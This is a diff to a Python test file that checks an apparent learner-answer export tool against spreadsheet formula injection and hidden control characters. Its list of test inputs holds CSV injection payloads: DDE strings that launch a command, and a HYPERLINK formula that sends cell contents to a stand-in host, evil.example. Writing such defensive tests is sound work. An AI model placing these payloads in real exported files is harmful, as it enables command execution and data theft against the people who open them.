@@ -14,7 +14,8 @@ EVIL = [
     "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Marks")', "+1+1", "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠x",
     "a;=1+1", 'a","=1+1', 'a";"=1+1', "a\t=1+1", "a\n=1+1", "a|=1+1", "\u200b=1+1", "'=1+1", "\ufeff=1+1", "\u00ad=1+1",
-    "\u2060@x", "\u115f=1+1", "\u3164=1+1", "\ufe0f-1", "\x00=1+1", "\x1b=1+1", "a;\u00ad=1+1", "﹦1+1", "\u2800=1", '"=1+1',
+    "\u2060@x", "\u115f=1+1", "\u3164=1+1", "\ufe0f-1", "\x00=1+1", "\x1b=1+1", "a;\u00ad=1+1", "﹦1+1", "\u2800=1",
+    '"=1+1',
 ]  # fmt: skip
 SIGNS = tuple("=+-@＝＋－＠﹦﹢﹣﹫\t\r\n")
 UNSEEN = " \u00ad\u115f\u200b\u2060\u2800\u3164\ufe0f\ufeff"
@@ -39,7 +40,7 @@ def assert_harmless(file):
 
 def test_no_name_and_no_answer_of_a_learner_is_a_formula(tmp_path):
     for number, evil in enumerate(EVIL):
-        name = evil.replace("/", "").strip() or "x"
+        name = evil.replace("/", "").replace("\0", "").strip() or "x"
         lines = [attempt("01-c01", WRONG, 1, id=f"{number}-1"), attempt("01-x01", evil, 2, id=f"{number}-2")]
         hand_in(tmp_path / "in" / f"{name}{number}.jsonl", evil, lines)
     (tmp_path / "in" / "=1+1.jsonl").write_text("broken", "utf-8")
@@ -68,7 +69,7 @@ def test_numbers_are_numbers(tmp_path):
         assert [row["learner"] for row in csv.DictReader(stream)] == [f"ليلى {n}" for n in sorted(range(12), key=str)]
 
 
-@pytest.mark.parametrize("evil", EVIL + ["\x00a\x1b[31m\u202eb", "x" * 5000])
+@pytest.mark.parametrize("evil", [*EVIL, "\x00a\x1b[31m\u202eb", "x" * 5000])
 def test_nothing_of_a_question_that_came_along_is_a_formula_or_a_hidden_sign(evil, tmp_path):
     key = {
         "id": evil, "kind": "choice", "set": evil, "text": evil, "objective": evil,
@@ -82,4 +83,5 @@ def test_nothing_of_a_question_that_came_along_is_a_formula_or_a_hidden_sign(evi
     assert [one.n for one in made.items] == [2]
     assert_harmless(tmp_path / "tables" / "questions.csv")
     assert not set(made.html) & set("\x00\x1b\u202e\ufeff\u00ad")
-    assert all(len(cell) < 200 for row in csv.reader((tmp_path / "tables" / "questions.csv").open()) for cell in row)
+    rows = csv.reader((tmp_path / "tables" / "questions.csv").read_text("utf-8").splitlines())
+    assert all(len(cell) < 200 for row in rows for cell in row)
